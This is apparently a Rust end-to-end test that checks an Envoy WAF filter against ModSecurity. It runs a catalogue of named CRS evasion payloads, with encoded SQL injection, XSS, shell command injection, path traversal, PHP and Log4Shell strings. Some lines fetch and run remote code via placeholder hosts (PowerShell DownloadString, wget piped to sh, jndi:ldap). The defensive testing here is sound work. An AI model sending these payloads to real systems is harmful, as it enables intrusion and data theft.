//! CRS evasion catalogue (issue 10 item 3, the WAF rows): named techniques that dress an
//! attack up to slip past the OWASP CRS — encodings (double, `%u`, HTML entities, overlong
//! UTF-8, JSON `\u`), comments, case, whitespace, quoting and shell tricks — sent through a
//! real Envoy 1.40 with the release filter's WAF (Debian's CRS v3.3.4 embedded, paranoia
//! level 1, anomaly blocking), and the same request, as Envoy forwarded it, through
//! ModSecurity 3.0.9 with the same CRS and settings ([`Engines::load`]).
//!
//! Two Envoys with the same HCM settings (`normalize_path`, as an Istio gateway): one runs the
//! WAF in dry-run, so its echo upstream shows what Envoy hands the filter (the normalized
//! `:path`, the headers, or Envoy's own rejection), the other enforces. Each row: what Envoy
//! passed, ModSecurity's verdict on that request, ours through Envoy. The test FAILS when
//! * ModSecurity blocks a row that our filter lets through (we are never weaker);
//! * our filter blocks a row ModSecurity passes and [`STRICTER`] does not name and justify it
//!   (or names a row that is not stricter);
//! * a benign row is blocked by either engine (the catalogue must be able to tell);
//! * fewer than 80% of the attack rows are blocked by both (the WAF must be running).
//!
//! Rows both engines let through are CRS's own gaps at paranoia level 1: printed and counted,
//! not failed (a higher paranoia level closes most of them). `policies/README.md` ("CRS
//! evasions") has the last table.
//!
//! Run: `cargo test -p portcullis-e2e --test waf_evasions -- --nocapture`.

use portcullis_e2e::differential::Engines;
use portcullis_e2e::{Envoy, EnvoyConfig, Request, Response};
use std::collections::BTreeSet;
use std::fmt::Write as _;

/// Rows where our filter blocks and ModSecurity 3.0.9 passes, each with why that is right.
const STRICTER: &[(&str, &str)] = &[];

/// One technique: a request and what it is.
struct Technique {
    name: &'static str,
    /// `benign` for the controls, `false-positive` for benign traffic CRS blocks, else the
    /// attack family (`sqli`, `xss`, `rce`, `lfi`, `php`, `java`, `scanner`).
    family: &'static str,
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    /// Content type and body.
    body: Option<(&'static str, Vec<u8>)>,
}

/// Percent-encodes everything but RFC 3986's unreserved characters.
fn pct(payload: &str) -> String {
    let mut out = String::new();
    for b in payload.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

fn get(name: &'static str, family: &'static str, target: String) -> Technique {
    Technique {
        name,
        family,
        method: "GET",
        target,
        headers: Vec::new(),
        body: None,
    }
}

/// `payload` in the query argument `q`, percent-encoded.
fn q(name: &'static str, family: &'static str, payload: &str) -> Technique {
    get(name, family, format!("/search?q={}", pct(payload)))
}

/// A query string as written (the technique is its encoding).
fn q_raw(name: &'static str, family: &'static str, query: &str) -> Technique {
    get(name, family, format!("/search?{query}"))
}

fn header(name: &'static str, family: &'static str, h: &'static str, v: &str) -> Technique {
    let mut t = get(name, family, "/".into());
    t.headers.push((h, v.into()));
    t
}

fn body(name: &'static str, family: &'static str, ctype: &'static str, b: &[u8]) -> Technique {
    Technique {
        name,
        family,
        method: "POST",
        target: "/submit".into(),
        headers: Vec::new(),
        body: Some((ctype, b.to_vec())),
    }
}

fn form(name: &'static str, family: &'static str, b: &str) -> Technique {
    body(
        name,
        family,
        "application/x-www-form-urlencoded",
        b.as_bytes(),
    )
}

fn json(name: &'static str, family: &'static str, b: &str) -> Technique {
    body(name, family, "application/json", b.as_bytes())
}

fn multipart(name: &'static str, family: &'static str, field: &str, value: &str) -> Technique {
    let b = format!(
        "--b0und\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n--b0und--\r\n"
    );
    body(
        name,
        family,
        "multipart/form-data; boundary=b0und",
        b.as_bytes(),
    )
}

fn catalogue() -> Vec<Technique> {
    vec![
        // Controls: ordinary traffic both engines must pass.
        q("benign-search", "benign", "blue running shoes"),
        q("benign-apostrophe-name", "benign", "O'Brien"),
        // A CRS false positive at paranoia level 1 (libinjection reads `5 < 6 and 7 > 3` as
        // SQL): both engines must agree on it.
        q(
            "false-positive-comparison",
            "false-positive",
            "5 < 6 and 7 > 3",
        ),
        q("benign-email", "benign", "jane.doe@example.com"),
        form(
            "benign-form",
            "benign",
            "name=Jane+Doe&comment=Great+service%21",
        ),
        json(
            "benign-json",
            "benign",
            r#"{"user":{"name":"Jane","tags":["a","b"]},"page":2}"#,
        ),
        get(
            "benign-path",
            "benign",
            "/static/css/site.min.css?v=3".into(),
        ),
        header(
            "benign-user-agent",
            "benign",
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        ),
        // SQL injection (942xxx).
        q("sqli-tautology", "sqli", "1' OR '1'='1"),
        q(
            "sqli-mixed-case",
            "sqli",
            "1' oR '1'='1' uNiOn SeLeCt 1,2--",
        ),
        q("sqli-inline-comments", "sqli", "1'/**/OR/**/1=1--"),
        q(
            "sqli-mysql-versioned-comment",
            "sqli",
            "1' /*!50000UNION*/ /*!50000SELECT*/ user,password FROM users--",
        ),
        q_raw(
            "sqli-double-urlencoded",
            "sqli",
            "q=1%2527%2520OR%2520%25271%2527%253D%25271",
        ),
        q_raw(
            "sqli-percent-u",
            "sqli",
            "q=1%u0027%20OR%20%u00271%u0027%3D%u00271",
        ),
        q_raw(
            "sqli-tab-newline-whitespace",
            "sqli",
            "q=1%27%09OR%0A1%3D1--",
        ),
        q_raw(
            "sqli-vertical-tab-formfeed",
            "sqli",
            "q=1%27%0BUNION%0CSELECT%0Bpassword%0CFROM%0Busers--",
        ),
        q_raw(
            "sqli-plus-as-space",
            "sqli",
            "q=1%27+UNION+SELECT+username,password+FROM+users--",
        ),
        q(
            "sqli-hex-literal",
            "sqli",
            "1 UNION SELECT 0x61646d696e,0x70617373",
        ),
        q(
            "sqli-char-concat",
            "sqli",
            "1' AND CONCAT(CHAR(97),CHAR(100))='ad",
        ),
        q_raw("sqli-null-byte-prefix", "sqli", "q=%00%27%20OR%201%3D1--"),
        q("sqli-time-based", "sqli", "1' AND SLEEP(5)-- -"),
        q("sqli-benchmark", "sqli", "1 AND BENCHMARK(5000000,MD5(1))"),
        q(
            "sqli-scientific-notation",
            "sqli",
            "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1,1) ,1,1)))",
        ),
        q("sqli-stacked-query", "sqli", "1; DROP TABLE users--"),
        q_raw("sqli-in-arg-name", "sqli", "1%27%20OR%20%271%27%3D%271=x"),
        header("sqli-in-cookie", "sqli", "cookie", "session=1' OR '1'='1"),
        header(
            "sqli-in-referer",
            "sqli",
            "referer",
            "http://example.com/?id=1' UNION SELECT password FROM users--",
        ),
        form("sqli-form-body", "sqli", "user=admin%27--&pass=x"),
        {
            let mut t = q("sqli-lowercase-method", "sqli", "1' OR '1'='1");
            t.method = "get";
            t
        },
        {
            let mut t = q("sqli-unknown-method", "sqli", "1' OR '1'='1");
            t.method = "FOO";
            t
        },
        json(
            "sqli-json-unicode-escapes",
            "sqli",
            r#"{"q":"1\u0027 OR \u00271\u0027=\u00271"}"#,
        ),
        multipart(
            "sqli-multipart-field",
            "sqli",
            "q",
            "1' UNION SELECT password FROM users--",
        ),
        q_raw(
            "sqli-split-over-parameters",
            "sqli",
            "q=1%27%20UNION%2F*&q=*%2FSELECT%20password%20FROM%20users--",
        ),
        // Cross-site scripting (941xxx).
        q("xss-script-tag", "xss", "<script>alert(1)</script>"),
        q("xss-mixed-case-tag", "xss", "<ScRiPt>alert(1)</sCrIpT>"),
        q(
            "xss-named-entities",
            "xss",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ),
        q(
            "xss-decimal-entities",
            "xss",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
        ),
        q("xss-img-onerror", "xss", "<img src=x onerror=alert(1)>"),
        q("xss-svg-onload-slash", "xss", "<svg/onload=alert(1)>"),
        q(
            "xss-javascript-uri",
            "xss",
            "<a href=\"javascript:alert(1)\">x</a>",
        ),
        q(
            "xss-javascript-uri-tab",
            "xss",
            "<a href=\"java\tscript:alert(1)\">x</a>",
        ),
        q_raw(
            "xss-percent-u",
            "xss",
            "q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        ),
        q_raw(
            "xss-double-urlencoded",
            "xss",
            "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        ),
        q(
            "xss-data-uri",
            "xss",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        ),
        q(
            "xss-css-expression",
            "xss",
            "<div style=\"width:expression(alert(1))\">",
        ),
        q(
            "xss-utf7",
            "xss",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ),
        header(
            "xss-in-user-agent",
            "xss",
            "user-agent",
            "<script>alert(1)</script>",
        ),
        get(
            "xss-unencoded-in-target",
            "xss",
            "/search?q=<script>alert(1)</script>".into(),
        ),
        header(
            "xss-nul-in-header",
            "xss",
            "x-note",
            "a\0<script>alert(1)</script>",
        ),
        json(
            "xss-json-unicode-escapes",
            "xss",
            r#"{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        ),
        multipart(
            "xss-multipart-field",
            "xss",
            "bio",
            "<svg onload=alert(document.cookie)>",
        ),
        // Remote command execution (932xxx).
        q("rce-semicolon-cat", "rce", ";cat /etc/passwd"),
        q("rce-quote-split", "rce", ";c'a't /e'tc'/pa'ss'wd"),
        q("rce-backslash-split", "rce", ";c\\at /e\\tc/pa\\sswd"),
        q("rce-ifs", "rce", ";cat${IFS}/etc/passwd"),
        q("rce-wildcards", "rce", ";/???/c?t /???/p??s??"),
        q("rce-backticks", "rce", "`id`"),
        q("rce-dollar-paren", "rce", "$(id)"),
        q_raw("rce-newline-separator", "rce", "q=x%0Aid"),
        q(
            "rce-windows-powershell",
            "rce",
            "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x/a')\"",
        ),
        q("rce-windows-caret", "rce", "& d^i^r c:\\"),
        header(
            "rce-shellshock-user-agent",
            "rce",
            "user-agent",
            "() { :; }; /bin/bash -c id",
        ),
        form(
            "rce-form-body",
            "rce",
            "host=127.0.0.1%3Bwget%20http%3A%2F%2Fx%2Fsh%20-O-%7Csh",
        ),
        // Path traversal and local file inclusion (930xxx).
        q("lfi-dot-dot", "lfi", "../../../../etc/passwd"),
        q_raw(
            "lfi-encoded-slashes",
            "lfi",
            "file=..%2f..%2f..%2fetc%2fpasswd",
        ),
        q_raw(
            "lfi-double-encoded",
            "lfi",
            "file=..%252f..%252f..%252fetc%252fpasswd",
        ),
        q_raw(
            "lfi-overlong-utf8",
            "lfi",
            "file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        ),
        q_raw(
            "lfi-percent-u",
            "lfi",
            "file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
        ),
        q("lfi-backslashes", "lfi", "..\\..\\..\\windows\\win.ini"),
        q_raw(
            "lfi-null-byte-suffix",
            "lfi",
            "file=../../../etc/passwd%00.png",
        ),
        get(
            "lfi-in-path-encoded",
            "lfi",
            "/static/..%2f..%2f..%2fetc%2fpasswd".into(),
        ),
        get(
            "lfi-dot-segments-in-path",
            "lfi",
            "/static/../../etc/passwd".into(),
        ),
        get(
            "lfi-encoded-dots-in-path",
            "lfi",
            "/static/%2e%2e/%2E%2E/etc/passwd".into(),
        ),
        q("lfi-proc-self", "lfi", "/proc/self/environ"),
        // PHP injection (933xxx).
        q("php-open-tag", "php", "<?php system('id'); ?>"),
        q("php-open-tag-case", "php", "<?PhP SyStEm('id'); ?>"),
        q(
            "php-wrapper",
            "php",
            "php://filter/convert.base64-encode/resource=index.php",
        ),
        q("php-function-call", "php", "phpinfo()"),
        // Java / Log4Shell (944xxx).
        header(
            "java-log4shell-user-agent",
            "java",
            "user-agent",
            "${jndi:ldap://x.example/a}",
        ),
        q(
            "java-log4shell-nested-lookups",
            "java",
            "${${lower:j}${lower:n}di:ldap://x.example/a}",
        ),
        q(
            "java-class-loader",
            "java",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        ),
        // Scanners (913xxx).
        header("scanner-user-agent", "scanner", "user-agent", "Nikto/2.5.0"),
        header(
            "scanner-user-agent-case",
            "scanner",
            "user-agent",
            "sqlMAP/1.7",
        ),
    ]
}

/// What happened to a request.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Verdict {
    Passed,
    /// Blocked, with the rule ids that logged.
    Blocked(BTreeSet<u64>),
    /// Envoy answered itself (a malformed request), with this status.
    Envoy(u16),
}

impl Verdict {
    fn blocked(&self) -> bool {
        matches!(self, Verdict::Blocked(_))
    }

    fn show(&self) -> String {
        match self {
            Verdict::Passed => "passed".into(),
            Verdict::Blocked(ids) => {
                let ids: Vec<String> = ids
                    .iter()
                    .filter(|id| !matches!(id, 949110 | 980130))
                    .map(u64::to_string)
                    .collect();
                format!("blocked {}", ids.join(" "))
            }
            Verdict::Envoy(s) => format!("Envoy {s}"),
        }
    }
}

fn send(t: &Technique, e: &Envoy) -> Response {
    let mut r = match &t.body {
        Some((ctype, b)) => Request::post(&t.target, ctype, b),
        None => Request::get(&t.target),
    }
    .method(t.method);
    for (k, v) in &t.headers {
        r = r.header(k, v);
    }
    r.send(e.addr())
}

fn ours(r: &Response) -> Verdict {
    if r.header("x-echo").is_some() {
        return Verdict::Passed;
    }
    match r.status {
        403 => {
            let v = r.json();
            assert_eq!(v["check"], "waf", "a 403 that is not the WAF's: {v}");
            let ids = v["rule_ids"]
                .as_array()
                .map(|a| a.iter().filter_map(|id| id.as_u64()).collect())
                .unwrap_or_default();
            Verdict::Blocked(ids)
        }
        s => Verdict::Envoy(s),
    }
}

/// ModSecurity's verdict on the request Envoy forwarded (`echo`: the dry-run Envoy's
/// upstream response).
fn modsecurity(engines: &Engines, t: &Technique, echo: &Response) -> Verdict {
    if echo.header("x-echo").is_none() {
        return Verdict::Envoy(echo.status);
    }
    let v = echo.json();
    let method = v["method"].as_str().unwrap_or_default();
    let path = v["path"].as_str().unwrap_or_default();
    let mut req = portcullis_modsec::Request::new(method, path);
    for (k, val) in echo.upstream_headers() {
        req = req.header(&k, &val);
    }
    if let Some((_, b)) = &t.body {
        req = req.body(b);
    }
    let out = engines.modsec.evaluate(&req);
    match out.status {
        Some(_) => Verdict::Blocked(out.rule_ids.into_iter().collect()),
        None => Verdict::Passed,
    }
}

#[test]
fn crs_evasions_are_blocked_as_modsecurity_blocks_them() {
    let plugin = |mode: &str| {
        format!(r#"{{"waf": {{"mode": "{mode}"}}, "metrics": {{"flush_interval_ms": 0}}}}"#)
    };
    let envoys = Envoy::start_many(&[
        EnvoyConfig::with_plugin(&plugin("dry_run")),
        EnvoyConfig::with_plugin(&plugin("enforce")),
    ]);
    let (view, enforce) = (&envoys[0], &envoys[1]);
    let engines = Engines::load("").unwrap_or_else(|e| panic!("{e}"));
    let stricter: BTreeSet<&str> = STRICTER.iter().map(|(n, _)| *n).collect();

    let mut table = String::from(
        "| technique | family | Envoy passes | ModSecurity 3.0.9 | ours (Envoy) | verdict |\n\
         | --- | --- | --- | --- | --- | --- |\n",
    );
    let mut failures = Vec::new();
    let (mut attacks, mut both_blocked, mut both_passed) = (0, 0, Vec::new());
    let mut found_stricter = BTreeSet::new();
    let rows = catalogue();
    let names: BTreeSet<&str> = rows.iter().map(|t| t.name).collect();
    assert_eq!(names.len(), rows.len(), "technique names must be unique");
    for t in &rows {
        let echo = send(t, view);
        let forwarded = if echo.header("x-echo").is_some() {
            let p = echo.json()["path"].as_str().unwrap_or_default().to_string();
            if p == t.target {
                "as sent".to_string()
            } else {
                format!("`{p}`")
            }
        } else {
            format!("rejects ({})", echo.status)
        };
        let ms = modsecurity(&engines, t, &echo);
        let us = ours(&send(t, enforce));
        let verdict = match (&ms, &us) {
            (Verdict::Envoy(a), Verdict::Envoy(b)) if a == b => "Envoy rejects",
            (a, b) if a.blocked() && b.blocked() => "both block",
            (Verdict::Passed, Verdict::Passed) if t.family == "benign" => "both pass",
            (Verdict::Passed, Verdict::Passed) => "both pass (CRS PL1 gap)",
            (a, Verdict::Passed) if a.blocked() => "WEAKER",
            (Verdict::Passed, b) if b.blocked() => "stricter",
            _ => "DIFFERENT",
        };
        let _ = writeln!(
            table,
            "| `{}` | {} | {forwarded} | {} | {} | {verdict} |",
            t.name,
            t.family,
            ms.show(),
            us.show()
        );
        if t.family == "benign" {
            if ms.blocked() || us.blocked() {
                failures.push(format!("{}: a benign request was blocked", t.name));
            }
            continue;
        }
        if t.family == "false-positive" {
            if ms.blocked() != us.blocked() {
                failures.push(format!("{}: {verdict} on a false positive", t.name));
            }
            continue;
        }
        attacks += 1;
        match verdict {
            "both block" => both_blocked += 1,
            "both pass (CRS PL1 gap)" => both_passed.push(t.name),
            "stricter" => {
                found_stricter.insert(t.name);
            }
            "Envoy rejects" => {}
            _ => failures.push(format!(
                "{}: ModSecurity {}, ours {} ({verdict})",
                t.name,
                ms.show(),
                us.show()
            )),
        }
    }
    eprintln!("{table}");
    eprintln!(
        "{} techniques ({attacks} attacks): both block {both_blocked}, ours stricter {}, \
         both pass {} ({})",
        rows.len(),
        found_stricter.len(),
        both_passed.len(),
        both_passed.join(", ")
    );
    for name in found_stricter.difference(&stricter) {
        failures.push(format!(
            "{name}: ours blocks what ModSecurity passes, and STRICTER does not justify it"
        ));
    }
    for name in stricter.difference(&found_stricter) {
        failures.push(format!("{name}: in STRICTER, but not stricter any more"));
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(
        both_blocked * 100 >= attacks * 80,
        "only {both_blocked} of {attacks} attacks blocked by both engines: is the WAF running?"
    );
}
